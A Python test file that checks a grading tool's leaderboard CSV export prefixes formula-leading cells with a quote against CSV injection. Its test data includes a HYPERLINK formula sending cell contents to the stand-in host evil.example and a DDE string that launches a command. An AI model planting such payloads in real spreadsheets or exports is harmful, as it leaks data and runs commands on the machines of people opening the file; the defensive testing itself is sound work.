"""CSV exports neutralise spreadsheet formulas (OWASP "CSV injection").

Issue 10, item 10: a submission labelled ``=HYPERLINK(...)`` was written verbatim into
``leaderboard.csv``, where a spreadsheet runs it when the file is opened.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from annotator.base.grading.leaderboard import make_row, neutralise_cell, rows_csv
from tests.factories import body_of, client_for
from tests.grading.conftest import scored, upload

FORMULA_LABELS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


@pytest.mark.django_db
def test_leaderboard_csv_neutralises_a_formula_label(adjudicated, maintainer):
    agents = {label: b'{"actions": []}' for label in [*FORMULA_LABELS, "plain agent"]}
    scored(adjudicated, upload(adjudicated.packet, maintainer, agents), maintainer)
    exported = client_for(maintainer).get(f"/api/versions/{adjudicated.pk}/leaderboard.csv")
    assert exported.status_code == 200
    table = list(csv.DictReader(io.StringIO(body_of(exported).decode())))
    labels = {row["label"] for row in table}
    for label in FORMULA_LABELS:
        assert "'" + label in labels and label not in labels
    assert "plain agent" in labels
    for row in table:
        assert row["label"][0] not in "=+-@\t\r", row["label"]
        assert float(row["reward"]) >= 0  # numbers are still numbers, unquoted
    # The JSON leaderboard keeps the labels as uploaded (it is not a spreadsheet).
    as_json = json.loads(body_of(client_for(maintainer).get(f"/api/versions/{adjudicated.pk}/leaderboard.json")))
    assert set(FORMULA_LABELS) <= {row["label"] for row in as_json["rows"]}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text, even when it looks like a number
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        (-0.5, -0.5),
        (3, 3),
        (None, None),
    ],
)
def test_csv_cells_starting_with_a_formula_character_get_a_quote(value, written):
    assert neutralise_cell(value) == written


def test_rows_csv_keeps_negative_numbers_as_numbers_and_quotes_text_formulas():
    row = make_row(
        "moment-utility-v1", kind="agent", label="=cmd()", reward=-0.25, reason="-bad", details={"mean_iou": -1.5}
    )
    text = rows_csv([row], "moment-utility-v1")
    [parsed] = list(csv.DictReader(io.StringIO(text)))
    assert parsed["label"] == "'=cmd()" and parsed["reason"] == "'-bad"
    assert parsed["reward"] == "-0.25" and parsed["mean_iou"] == "-1.5"
